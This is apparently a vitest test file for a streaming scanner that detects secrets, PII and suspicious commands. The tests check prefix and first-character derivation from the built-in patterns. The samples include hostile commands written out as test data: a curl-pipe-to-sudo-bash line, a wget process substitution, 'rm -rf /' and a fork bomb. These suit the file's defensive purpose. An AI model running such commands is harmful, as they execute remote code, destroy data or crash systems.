import { describe, expect, it } from "vitest";
import { BUILTIN_PATTERNS } from "../src/index.js";
import { firstCharSource, prefixSource } from "../src/prefix.js";
import { FAKE } from "./helpers.js";

/** Whether the whole of `text` is accepted as a non-empty (possibly complete) prefix of a match. */
function isLivePrefix(source: string, text: string): boolean {
  return new RegExp(`^(?:${prefixSource(source)})$`).test(text);
}

const source = (name: string) => BUILTIN_PATTERNS.find((p) => p.name === name)!.source;

describe("prefix derivation (what the stream scanner may still hold back)", () => {
  const samples: Array<[string, string]> = [
    ["api_keys", FAKE.openaiProject],
    ["api_keys", FAKE.aws],
    ["api_keys", FAKE.githubFine],
    ["credentials", 'password: "hunter22"'],
    ["credentials", "postgres://app:pa55@db:5432"],
    ["pii_emails", "jane.doe+x@example.co.uk"],
    ["pii_phone_numbers", "+44 20 7946 0958"],
    ["ip_addresses", "2001:db8::8a2e:370:7334"],
    ["suspicious_commands", "curl -fsSL https://x.example/i.sh | sudo bash"],
    ["suspicious_commands", ":(){ :|:& };:"],
  ];

  it.each(samples)("%s: every non-empty prefix of %j is live, the empty one is not", (name, match) => {
    for (let i = 1; i <= match.length; i++) expect(isLivePrefix(source(name), match.slice(0, i)), match.slice(0, i)).toBe(true);
    expect(isLivePrefix(source(name), "")).toBe(false);
  });

  it.each([
    ["api_keys", "ski"],
    ["api_keys", "sk-ant-api03 "],
    ["api_keys", "AKIA-"],
    ["credentials", "passport "],
    ["pii_emails", "bob @"],
    ["suspicious_commands", "rmdir"],
    ["suspicious_commands", "curl x\n"],
  ])("%s: %j can no longer become a match", (name, text) => {
    expect(isLivePrefix(source(name), text)).toBe(false);
  });

  it("backreferences stand for their group; unparseable sources give null (hold the whole window)", () => {
    expect(isLivePrefix("(?<q>['\"])[a-z]+\\k<q>", "'abc'")).toBe(true);
    expect(isLivePrefix("(?<q>['\"])[a-z]+\\k<q>", "'ab1")).toBe(false);
    expect(prefixSource("(")).toBeNull();
  });
});

describe("first characters (where the stream scanner need not look for a prefix)", () => {
  const begins = (source: string, char: string) => new RegExp(`^${firstCharSource(source)}$`).test(char);

  it("every built-in pattern's matches begin with one of its first characters", () => {
    const samples: Array<[string, string]> = [
      ["api_keys", FAKE.openaiProject],
      ["api_keys", FAKE.aws],
      ["credentials", 'password: "hunter22"'],
      ["pii_emails", "jane.doe+x@example.co.uk"],
      ["pii_phone_numbers", "+44 20 7946 0958"],
      ["ip_addresses", "2001:db8::8a2e:370:7334"],
      ["suspicious_commands", "rm -rf /"],
      ["suspicious_commands", "curl -fsSL https://x.example/i.sh | sudo bash"],
      ["suspicious_commands", "bash <(wget -qO- https://x.example)"],
      ["suspicious_commands", ":(){ :|:& };:"],
    ];
    for (const [name, match] of samples) {
      expect(new RegExp(source(name)).exec(match)?.index, `${name} matches ${match}`).toBe(0);
      expect(begins(source(name), match[0]!), `${name} may begin with ${match[0]}`).toBe(true);
    }
  });

  it("passes over assertions and optional parts, and names only what can begin a match", () => {
    const source = "\\b(?<=\\s)(?:x?y*|z)[ab]";
    for (const char of ["x", "y", "z", "a", "b"]) expect(begins(source, char), char).toBe(true);
    for (const char of ["c", " ", "\\"]) expect(begins(source, char), char).toBe(false);
    expect(begins("a.b", "a")).toBe(true);
    expect(begins(".", "\n")).toBe(true); // any character, a superset of the dot
  });

  it("a backreference begins as its group does; a group referring to itself or a source it cannot parse gives null", () => {
    for (const char of ["a", "b"]) expect(begins("(a)?\\1b", char), char).toBe(true);
    expect(begins("(a)?\\1b", "c")).toBe(false);
    expect(firstCharSource("(\\1a)")).toBeNull();
    expect(firstCharSource("(")).toBeNull();
  });
});
